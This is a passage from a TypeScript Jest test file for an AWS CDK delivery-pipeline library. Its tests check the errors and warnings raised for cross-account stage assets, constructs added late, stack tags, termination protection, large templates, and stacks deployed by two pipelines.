    new CfnResource(new NestedStack(new Stack(stage3, 'Svc'), 'Params'), 'P', { type: 'AWS::SSM::Parameter', properties: { Type: 'String', Value: 'x' } });
    expect(() => pipelineFor(stage3)()).not.toThrow();
  });

  test('an env-agnostic stage with assets in an environment of another account is refused (regression: assets published to the pipeline\'s account)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod');
    new s3assets.Asset(new Stack(stage, 'Svc'), 'Code', { path: path.join(__dirname, 'docker-asset') });
    expect(errorOf(pipelineFor(stage, { account: '222222222222' }))).toBe(
      `${F}.stage holds stacks without an explicit account or region, whose assets would be published to the pipeline's account and region while the stacks deploy to account 222222222222, `
      + "got 'Prod-Svc'. Give the stage env: { account: '222222222222', region: 'eu-west-1' }.");
    // without assets the same stage deploys there: nothing is published
    const app2 = newApp();
    const plain = new Stage(app2, 'Prod');
    new Stack(plain, 'Svc');
    expect(() => pipelineFor(plain, { account: '222222222222' })()).not.toThrow();
  });

  test('a resource or a tag added to the stage after the pipeline was configured fails the synth with the library\'s error (regression: aws-cdk-lib\'s error, or the tag silently missing)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    const svc = new Stack(stage, 'Svc');
    pipelineFor(stage)();
    new ssm.StringParameter(svc, 'Late', { stringValue: 'x' });
    expect(errorOf(() => app.synth())).toBe(
      `${F}.stage got constructs after the pipeline was configured, when the stage was synthesized for it, got 'Prod/Svc/Late', 'Prod/Svc/Late/Resource'. `
      + 'Add every stack, resource, tag and aspect to the stage before creating the pipeline (or before addEnvironment with this stage).');

    const app2 = newApp();
    const stage2 = new Stage(app2, 'Prod', { env: E });
    new Stack(stage2, 'Svc');
    pipelineFor(stage2)();
    Tags.of(stage2).add('env', 'prod');
    expect(errorOf(() => app2.synth())).toBe(
      `${F}.stage got tags or aspects after the pipeline was configured, when the stage was synthesized for it: its templates would not have them, got 1 more. `
      + 'Add every stack, resource, tag and aspect to the stage before creating the pipeline (or before addEnvironment with this stage).');
  });
});

describe('DeploymentTarget.cdkStage: stack tags', () => {
  test('a stack\'s tags reach CloudFormation through a template configuration file in the build output; a stack without tags has none', () => {
    const app = newApp();
    const E = { account: '111111111111', region: 'eu-west-1' };
    const stage = new Stage(app, 'Prod', { env: E });
    withResource(new Stack(stage, 'Tagged', { tags: { costCenter: 'cc-42' } }));
    withResource(new Stack(stage, 'Bare'));
    const stack = new Stack(app, 'PipelineStack', { env: E });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    const asm = app.synth();
    const actions = stageOf(stack, 'prod').Actions as any[];
    const prepare = (name: string) => actions.find(a => a.Name === `${name}.Prepare`).Configuration;
    const tagged = asm.getNestedAssembly('assembly-Prod').stacks.find(s => s.stackName === 'Prod-Tagged')!;
    expect(prepare('Prod-Tagged').TemplateConfiguration).toBe(`BuildOutput::cdk.out/assembly-Prod/${tagged.templateFile}.config.json`);
    expect(JSON.parse(fs.readFileSync(`${tagged.templateFullPath}.config.json`, 'utf8'))).toEqual({ Tags: { costCenter: 'cc-42' } });
    expect(prepare('Prod-Bare').TemplateConfiguration).toBeUndefined();
  });
});

describe('DeploymentTarget.cdkStage: stack settings the actions cannot apply', () => {
  test('termination protection and notification ARNs of a stage stack are warned about at synth, with what to do; a stack without them gets no warning', () => {
    const app = newApp();
    const E = { account: '111111111111', region: 'eu-west-1' };
    const stage = new Stage(app, 'Prod', { env: E });
    withResource(new Stack(stage, 'Db', { stackName: 'shop-db', terminationProtection: true }));
    withResource(new Stack(stage, 'Api', { stackName: 'shop-api', notificationArns: ['arn:aws:sns:eu-west-1:111111111111:ops'] }));
    withResource(new Stack(stage, 'Web', { stackName: 'shop-web' }));
    const stack = new Stack(app, 'PipelineStack', { env: E });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    const warnings = Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('^(?!No environment is marked production)'))
      .map(w => ({ path: w.id, text: String(w.entry.data) }));
    expect(warnings).toEqual([
      {
        path: '/PipelineStack/Orders/Environments/prod/Prod',
        text: "stack 'shop-api' has notificationArns, which the pipeline's CloudFormation actions cannot set: the pipeline deploys it without them. "
          + "Follow the stack's events with an EventBridge rule instead (source aws.cloudformation, detail-type 'CloudFormation Stack Status Change') in its account and region. "
          + '[ack: delivery-pipeline:stageStackSettings]',
      },
      {
        path: '/PipelineStack/Orders/Environments/prod/Prod',
        text: "stack 'shop-db' has terminationProtection, which the pipeline's CloudFormation actions cannot set: the pipeline creates it unprotected. "
          + "After its first deployment, run 'aws cloudformation update-termination-protection --enable-termination-protection --stack-name shop-db' "
          + "in its account and region (it stays on), or deploy it once with 'cdk deploy'. [ack: delivery-pipeline:stageStackSettings]",
      },
    ]);
  });
});

describe('DeploymentTarget.cdkStage: large templates', () => {
  test('a stage stack template over 512 KB (and under CloudFormation\'s 1 MB) is warned about; a smaller one is not', () => {
    const app = newApp();
    const E = { account: '111111111111', region: 'eu-west-1' };
    const stage = new Stage(app, 'Prod', { env: E });
    new CfnResource(new Stack(stage, 'Big', { stackName: 'shop-big' }), 'P', { type: 'AWS::SSM::Parameter', properties: { Type: 'String', Value: 'x'.repeat(600_000) } });
    withResource(new Stack(stage, 'Small', { stackName: 'shop-small' }));
    const stack = new Stack(app, 'PipelineStack', { env: E });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage)] }] }));
    const warnings = Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('^(?!No environment is marked production)')).map(w => String(w.entry.data));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(new RegExp("^stack 'shop-big' has a template of 60\\d{4} bytes\\. CloudFormation accepts 1 MB, but CodePipeline's CloudFormation action has been "
      + 'reported to refuse templates over 512 KB .* \\[ack: delivery-pipeline:largeStageTemplate\\]$'));
  });
});

describe('one stack, two pipelines', () => {
  test('a stage (or a CloudFormation stack) deployed by two pipelines of the app into the same account and region is refused (regression: both executed the same change set)', () => {
    const { app, stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] }));
    const other = new Stack(app, 'OtherPipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    expect(errorOf(() => new DeliveryPipeline(other, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] })))).toBe(
      "'OtherPipelineStack/Orders': environments[0] ('staging').deployments[0].stage deploys stack 'orders-data-staging' into 111111111111/eu-west-1, "
      + "which the pipeline 'PipelineStack/Orders' deploys too, got 'orders-data-staging'. "
      + 'Deploy each stack from one pipeline; give the other pipeline its own stage or stack names (or another account or region).');

    const cfn = () => DeploymentTarget.cloudFormation({ stackName: 'shared', templatePath: 't.json' });
    new DeliveryPipeline(stack, 'First', props({ pipelineName: 'first', environments: [{ name: 'e', deployments: [cfn()] }] }));
    expect(errorOf(() => new DeliveryPipeline(other, 'Second', props({ environments: [{ name: 'e', deployments: [cfn()] }] })))).toBe(
      "'OtherPipelineStack/Second': environments[0] ('e').deployments[0].stackName deploys stack 'shared' into 111111111111/eu-west-1, "
      + "which the pipeline 'PipelineStack/First' deploys too, got 'shared'. "
      + 'Deploy each stack from one pipeline; give the other pipeline its own stage or stack names (or another account or region).');
    // the same stack name in another region is another stack
    new DeliveryPipeline(other, 'Third', props({ environments: [{ name: 'e', region: 'eu-central-1', deployments: [cfn()] }] }));
  });
});
